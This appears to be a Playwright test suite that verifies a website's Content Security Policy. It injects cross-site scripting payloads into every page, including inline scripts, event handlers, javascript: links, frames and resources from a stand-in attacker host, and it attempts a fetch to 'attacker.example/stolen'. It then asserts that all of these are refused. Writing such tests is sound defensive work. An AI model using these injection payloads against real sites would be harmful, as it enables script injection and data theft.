import { expect, test, type Page } from '@playwright/test';
import { securityHeaders } from '../deploy/policy.ts';
import { everyPage, routes } from './support/routes.ts';

const attacker = 'https://attacker.example';
const note = (what: string) => `window.injected = [...(window.injected ?? []), '${what}']`;

/** What someone would write into a page if they could. Each leaves a trace where the browser obeys it. */
const injections = [
  `<script>${note('an inline script')}</script>`,
  `<script type="module">${note('an inline module')}</script>`,
  `<script src="data:text/javascript,${encodeURIComponent(note('a script in an address'))}"></script>`,
  `<script src="${attacker}/x.js"></script>`,
  `<img src="/favicon.svg" alt="" onload="${note('a handler')}">`,
  `<svg onload="${note('a handler of a drawing')}"></svg>`,
  `<iframe srcdoc="<script>${note('a script in a frame').replaceAll('window', 'parent')}</script>"></iframe>`,
  `<iframe src="${attacker}/frame.html"></iframe>`,
  `<a id="injected-link" href="javascript:${note('a script behind a link')}">x</a>`,
  '<style>:root { --injected: yes }</style>',
  '<p id="injected-style" style="--injected: yes">x</p>',
  `<link rel="stylesheet" href="${attacker}/x.css">`,
  `<img src="${attacker}/pixel.png" alt="">`,
  `<base href="${attacker}/">`,
].join('\n');

/** Collects what the policy refuses in a page, from its first byte on, and requests that reach the attacker all the same. */
async function watch(page: Page) {
  const reached: string[] = [];
  await page.route(`${attacker}/**`, (route) => {
    reached.push(route.request().url());
    return route.fulfill({ contentType: 'text/javascript', body: note('a script of another host') });
  });
  await page.addInitScript(() => {
    const refused: string[] = [];
    Object.assign(window, { refused });
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => refused.push(effectiveDirective));
  });
  const read = <T>(name: string) => page.evaluate((property) => Reflect.get(window, property) as T, name);
  return { reached, refused: () => read<string[]>('refused'), injected: () => read<string[] | undefined>('injected') };
}

/** Opens a page with the injections in it; what `change` does to it comes on top. */
async function inject(page: Page, path: string, change = (html: string) => html) {
  await page.route(`**${path}`, async (route) => {
    const answer = await route.fetch();
    const html = change(await answer.text());
    await route.fulfill({ response: answer, body: html.replace(/<main[^>]*>/, (main) => main + injections) });
  });
  await page.goto(path);
  await page.locator('#injected-link').evaluate((link: HTMLAnchorElement) => link.click());
}

/** What the two injected styles did: to the whole page, and to the element that carries one. */
const styled = (page: Page) =>
  Promise.all(
    [':root', '#injected-style'].map((selector) =>
      page.locator(selector).evaluate((element) => getComputedStyle(element).getPropertyValue('--injected')),
    ),
  );

for (const { path, tag } of [...everyPage, { path: '/no-such-page', tag: [] }]) {
  test(
    `G8 ${path}: the policy refuses nothing of ours, and every script and style written into it`,
    { tag },
    async ({ page }) => {
      const { refused, reached, injected } = await watch(page);
      const response = await page.goto(path);
      const headers = response?.headers() ?? {};
      for (const [name, value] of securityHeaders) expect(headers[name.toLowerCase()], name).toBe(value);
      expect(await refused()).toEqual([]);

      await inject(page, path);
      await expect
        .poll(refused)
        .toEqual(
          expect.arrayContaining([
            'script-src-elem',
            'script-src-attr',
            'style-src-elem',
            'style-src-attr',
            'img-src',
            'frame-src',
            'base-uri',
          ]),
        );
      expect(await injected()).toBeUndefined();
      expect(await styled(page)).toEqual(['', '']);
      expect(
        await page.evaluate(() =>
          fetch('https://attacker.example/stolen').then(
            () => 'sent',
            () => 'refused',
          ),
        ),
      ).toBe('refused');
      expect(reached).toEqual([]);
    },
  );
}

test('G8 without the policy of the page all of that runs, so the tests above can fail', async ({ page }) => {
  const { injected } = await watch(page);
  await inject(page, '/terms', (html) => html.replace(/<meta http-equiv="content-security-policy"[^>]*>/, ''));
  await expect
    .poll(async () => (await injected())?.sort())
    .toEqual([
      'a handler',
      'a handler of a drawing',
      'a script behind a link',
      'a script in a frame',
      'a script in an address',
      'a script of another host',
      'an inline module',
      'an inline script',
    ]);
  expect(await styled(page)).toEqual(['yes', 'yes']);
});

test('G8 the policy of each page comes before everything it governs, and lists exactly its own scripts and styles', async ({
  page,
}) => {
  await page.goto('/terms');
  for (const path of [...routes, '/no-such-page']) {
    const html = await (await page.request.get(path)).text();
    const { before, policy, hashes } = await page.evaluate(readPolicy, html);
    expect(before, `${path}: before its policy`).toEqual(['charset']);
    expect(policy.match(/'sha256-[^']+'/g)?.sort() ?? [], path).toEqual(hashes);
    expect(policy, path).toMatch(/^default-src 'none';/);
    expect(policy.match(/'unsafe-[^']*'|'strict-dynamic'|https?:|data:|\*/g), path).toBeNull();
  }
});

/** Runs in the browser, so that its own parser says what a script is: the policy in a page, and the hashes of what it has to allow. */
async function readPolicy(html: string) {
  const parsed = new DOMParser().parseFromString(html, 'text/html');
  const meta = parsed.head.querySelector('meta[http-equiv="content-security-policy" i]');
  const children = [...parsed.head.children];
  const before = children
    .slice(
      0,
      children.findIndex((child) => child === meta),
    )
    .map((child) => child.getAttributeNames().join());
  const isData = (script: HTMLScriptElement) => script.type === 'application/ld+json';
  const inline = [
    ...[...parsed.scripts].filter((script) => !script.src && !isData(script)),
    ...parsed.querySelectorAll('style'),
  ];
  const hashOf = async ({ textContent }: Element) => {
    const digest = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(textContent));
    return `'sha256-${btoa(String.fromCharCode(...new Uint8Array(digest)))}'`;
  };
  return {
    before,
    policy: meta?.getAttribute('content') ?? '',
    hashes: [...new Set(await Promise.all(inline.map(hashOf)))].sort(),
  };
}
